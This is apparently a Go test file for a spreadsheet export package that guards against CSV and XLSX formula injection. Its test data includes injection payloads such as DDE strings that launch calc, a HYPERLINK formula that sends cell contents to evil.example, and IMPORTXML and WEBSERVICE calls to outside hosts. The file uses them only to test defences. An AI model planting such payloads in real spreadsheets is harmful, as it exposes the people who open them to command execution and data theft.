package sheets_test

import (
	"bytes"
	"errors"
	"fmt"
	"math"
	"math/rand/v2"
	"os"
	"reflect"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"luna/models/sheets"

	"github.com/xuri/excelize/v2"
)

// cells are what somebody who wants a formula to run, or breaks a table by
// accident, writes into a name.
var cells = []string{
	"=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1",
	"＝1+1", "＋1", "－1", "＠A1", "a;=1+1", "a; =1+1", "a,=1+1", "a\t=1+1", "a\n=1+1", "a\r=1+1", "a\r\n=1+1", "a|=1+1", "a;b;-2", "\"=1+1", "\"\"=1+1", "'=1+1",
	"''=1+1", "' =1+1", "a;'=1", "a;''=1", ";=1", ";;=1", ",,@x", "=HYPERLINK(\"http://evil.example?x=\"&A1;\"click\")", "=IMPORTXML(CONCAT(\"http://x/\";A1),\"//a\")",
	"=WEBSERVICE(\"http://x\")", "=DDE(\"cmd\";\"/C calc\";\"1\")", "-2+3+cmd|' /C calc'!A0", "@A1", "+49 170 1234567", "-", "=", "+", "@", "\t", "\r", "\r\r\n", "\n",
	"jana@x.example", "Anna-Lena", "O'Brien", "'t Hooft", "a=b", "1-2", "C++", "Müller, Zoë", "two\nlines", "say \"hi\"", "\"", "'", "", " ", "sep=;", "ﬁ", "日本語", "🙂=1", "e\u0301",
	"a;\u00a0\u200b=1", "a\u2028=1", "{=1+1}", "<b>=1</b>",
}

// wild tells whether a program that understands nothing of quotation marks and
// splits at whatever it likes would find a formula.
func wild(file string) (string, bool) {
	for _, at := range []string{",", ";", "\t", "|"} {
		for _, line := range strings.FieldsFunc(strings.TrimPrefix(file, "\ufeff"), func(r rune) bool { return r == '\n' || r == '\r' }) {
			for _, cell := range strings.Split(line, at) {
				bare := strings.TrimLeft(cell, "\" \u00a0\u200b\ufeff")
				if bare != "" && strings.ContainsAny(bare[:min(3, len(bare))], "=+-@＝＋－＠") && strings.IndexAny(bare, "=+-@＝＋－＠") == 0 {
					return cell, true
				}
			}
		}
	}
	return "", false
}

func written(t testing.TB, kind sheets.Kind, rows [][]string) []byte {
	t.Helper()
	var b bytes.Buffer
	w := sheets.NewWriter(&b, kind)
	for _, row := range rows {
		w.Row(row...)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func TestNoCellThatIsWrittenIsAFormula(t *testing.T) {
	if len(cells) < 60 {
		t.Fatalf("only %d cells", len(cells))
	}
	for _, cell := range cells {
		if found, is := wild(string(written(t, sheets.CSV, [][]string{{"x", cell, cell}}))); is {
			t.Errorf("%q is written with the formula %q", cell, found)
		}
	}
	if _, is := wild("x,a;=1\r\n"); !is {
		t.Error("the search for formulas finds none")
	}
	f, err := excelize.OpenReader(bytes.NewReader(written(t, sheets.XLSX, [][]string{cells})))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	for i := range cells {
		at, _ := excelize.CoordinatesToCellName(i+1, 1)
		formula, err := f.GetCellFormula("Sheet1", at)
		kind, err2 := f.GetCellType("Sheet1", at)
		if err != nil || err2 != nil || formula != "" || kind != excelize.CellTypeInlineString && kind != excelize.CellTypeSharedString && cells[i] != "" {
			t.Errorf("%q is written as %v with formula %q, %v %v", cells[i], kind, formula, err, err2)
		}
	}
}

func TestTheBytesOfAnExportStayAsTheyAre(t *testing.T) {
	var rows [][]string
	for i, cell := range cells {
		rows = append(rows, []string{fmt.Sprint(i), cell, "end"})
	}
	got := written(t, sheets.CSV, rows)
	want, err := os.ReadFile("testdata/cells.csv")
	if os.Getenv("LUNA_GOLDEN") != "" {
		err = os.WriteFile("testdata/cells.csv", got, 0o600)
		want = got
	}
	if err != nil || !bytes.Equal(got, want) {
		t.Errorf("the export differs from testdata/cells.csv (%v):\n%s", err, got)
	}
}

// plain is what remains of a row once it was written and read: line ends are
// alike, empty cells at its end are gone.
func plain(rows [][]string, kind sheets.Kind) [][]string {
	all := [][]string{}
	for _, row := range rows {
		var kept []string
		for _, cell := range row {
			if kind == sheets.CSV {
				for strings.Contains(cell, "\r\n") {
					cell = strings.ReplaceAll(cell, "\r\n", "\n")
				}
			}
			kept = append(kept, cell)
		}
		for len(kept) > 0 && kept[len(kept)-1] == "" {
			kept = kept[:len(kept)-1]
		}
		if len(kept) > 0 {
			all = append(all, kept)
		}
	}
	return all
}

func TestWhatIsExportedIsReadBackEqual(t *testing.T) {
	rng := rand.New(rand.NewPCG(1, 2))
	pieces := append([]string{"=", "'", ";", ",", "\t", "\r", "\n", "\"", "@", "-", " ", "a", "ü"}, cells...)
	for range 300 {
		rows := make([][]string, 1+rng.IntN(5))
		for i := range rows {
			for range 1 + rng.IntN(5) {
				cell := ""
				for range rng.IntN(5) {
					cell += pieces[rng.IntN(len(pieces))]
				}
				rows[i] = append(rows[i], cell)
			}
		}
		sameAfter(t, sheets.CSV, rows)
	}
	sameAfter(t, sheets.XLSX, [][]string{{"Name", "E-Mail"}, {"=1+1", "a;=1"}, {"", "'x", "ü"}, cells[:4]})
}

func sameAfter(t *testing.T, kind sheets.Kind, rows [][]string) {
	t.Helper()
	s, err := sheets.Read(written(t, kind, rows), sheets.Limits{Bytes: 1 << 20, Rows: 10_000, Columns: 200, Cell: 10_000})
	if err != nil {
		t.Fatalf("%q: %v", rows, err)
	}
	if got, want := rowsOf(s), plain(rows, kind); !reflect.DeepEqual(got, want) {
		t.Errorf("written %q\n   read %q", want, got)
	}
}

func FuzzCSV(f *testing.F) {
	for _, cell := range cells {
		f.Add([]byte("Name;E-Mail\n" + cell + ";x\n"))
	}
	f.Add([]byte("sep=;\na;b"))
	f.Add([]byte("\xff\xfea\x00\t\x00b\x00"))
	f.Fuzz(func(t *testing.T, data []byte) {
		s, err := sheets.Read(data, limits)
		if bytes.HasPrefix(data, []byte("PK")) {
			return
		}
		if err != nil {
			var refused *sheets.Refused
			if !errors.As(err, &refused) {
				t.Fatalf("%v", err)
			}
			return
		}
		for _, row := range s.Rows {
			for _, cell := range row.Cells {
				if !utf8.ValidString(cell) {
					return // a table may hold any bytes between quotation marks of Windows-1252
				}
			}
		}
		file := written(t, sheets.CSV, rowsOf(s))
		if cell, is := wild(string(file)); is {
			t.Errorf("%q became the formula %q", data, cell)
		}
		sameAfter(t, sheets.CSV, rowsOf(s))
	})
}

func FuzzXLSX(f *testing.F) {
	f.Add([]byte(`<row r="1"><c r="A1" t="s"><v>0</v></c></row>`), []byte(`<si><t>Name</t></si>`))
	f.Add([]byte(`<row r="1048576"><c r="XFD1" t="inlineStr"><is><t>x</t></is></c></row>`), []byte(``))
	f.Add([]byte(`<row r="-1"><c r="A0" s="7"><f t="shared" si="0">A1</f><v>1</v></c></row>`), []byte(`<si><r><t>a</t></r></si>`))
	f.Fuzz(func(t *testing.T, sheet, shared []byte) {
		data := workbook(t, string(sheet), string(shared))
		s, err := sheets.Read(data, limits)
		var refused *sheets.Refused
		if err != nil && !errors.As(err, &refused) {
			t.Fatal(err)
		}
		if len(s.Rows) > limits.Rows {
			t.Fatalf("%d rows", len(s.Rows))
		}
	})
}

// TestNumbersAndDaysAreThereToCountWith while a text stays one, whatever it looks
// like.
func TestNumbersAndDaysAreThereToCountWith(t *testing.T) {
	noon := time.Date(2026, time.November, 22, 23, 30, 0, 0, time.FixedZone("CET", 3600))
	row := []sheets.Cell{
		sheets.Text("=1+1"), sheets.Number("8,5", 8.5), sheets.Number("-1", -1), sheets.Day(noon), sheets.Text("12"), sheets.Number("no", math.NaN()), sheets.Text(""), sheets.Number("0,07", 0.07),
	}
	files := map[sheets.Kind][]byte{}
	for kind, want := range map[sheets.Kind][]string{
		sheets.XLSX: {"=1+1", "8.5", "-1", "2026-11-22", "12", "no", "", "0.07"},
		sheets.CSV:  {"=1+1", "8,5", "-1", "2026-11-22", "12", "no", "", "0,07"},
	} {
		var b bytes.Buffer
		w := sheets.NewWriter(&b, kind)
		w.Cells(row...)
		if err := w.Close(); err != nil {
			t.Fatal(err)
		}
		files[kind] = b.Bytes()
		s, err := sheets.Read(b.Bytes(), limits)
		if err != nil || len(s.Rows) != 1 || !reflect.DeepEqual(s.Rows[0].Cells, want) {
			t.Errorf("%s: %q, %v", kind, rowsOf(s), err)
		}
	}
	if cell, is := wild(string(files[sheets.CSV])); is {
		t.Errorf("the formula %q", cell)
	}
	f, err := excelize.OpenReader(bytes.NewReader(files[sheets.XLSX]))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	for i, number := range []bool{false, true, true, true, false, false, false, true} {
		at, _ := excelize.CoordinatesToCellName(i+1, 1)
		formula, err := f.GetCellFormula("Sheet1", at)
		kind, err2 := f.GetCellType("Sheet1", at)
		is := kind == excelize.CellTypeNumber || kind == excelize.CellTypeUnset && row[i] != sheets.Text("")
		if err != nil || err2 != nil || formula != "" || is != number {
			t.Errorf("%s is %v with the formula %q, %v %v", at, kind, formula, err, err2)
		}
	}
	if raw, err := f.GetCellValue("Sheet1", "D1", excelize.Options{RawCellValue: true}); raw != "46348" || err != nil {
		t.Errorf("the day is %q, %v", raw, err)
	}
}

// TestANumberIsReadWithAllItsDigits however it is shown, and a day, an hour, a share
// and a text as they are shown.
func TestANumberIsReadWithAllItsDigits(t *testing.T) {
	f := excelize.NewFile()
	defer f.Close()
	var want []string
	for i, c := range []struct {
		value  any
		format string
		want   string
	}{
		{8.5, "0", "8.5"},
		{8.5, "0.00", "8.5"},
		{1234.5, "#,##0.00", "1234.5"},
		{-1234567.25, "#,##0", "-1234567.25"},
		{0.1 + 0.2, "0.0", "0.3"},
		{12, "00000", "00012"},
		{0.85, "0%", "85%"},
		{46348, "dd.mm.yyyy", "22.11.2026"},
		{46348, "yyyy-mm-dd", "2026-11-22"},
		{46348, "yyyy", "2026"},
		{46348, "[$-407]mm.yy;@", "11.26"},
		{46348, "d.m", "22.11"},
		{0.4375, "hh.mm", "10.30"},
		{8.25, `[Red]0.0;[Black]-0.0" days"`, "8.25"},
		{"1,234", "0.00", "1,234"},
		{"8,5", "0.00", "8,5"},
		{"007", "0", "007"},
		{true, "0", "TRUE"},
		{1e20, "0", "100000000000000000000"},
	} {
		at, _ := excelize.CoordinatesToCellName(i+1, 1)
		style, err := f.NewStyle(&excelize.Style{CustomNumFmt: &c.format})
		if err := errors.Join(err, f.SetCellValue("Sheet1", at, c.value), f.SetCellStyle("Sheet1", at, at, style)); err != nil {
			t.Fatal(err)
		}
		want = append(want, c.want)
	}
	var b bytes.Buffer
	if err := f.Write(&b); err != nil {
		t.Fatal(err)
	}
	s, err := sheets.Read(b.Bytes(), limits)
	if err != nil || !reflect.DeepEqual(rowsOf(s), [][]string{want}) {
		t.Errorf("%q, want %q, %v", rowsOf(s), want, err)
	}
}
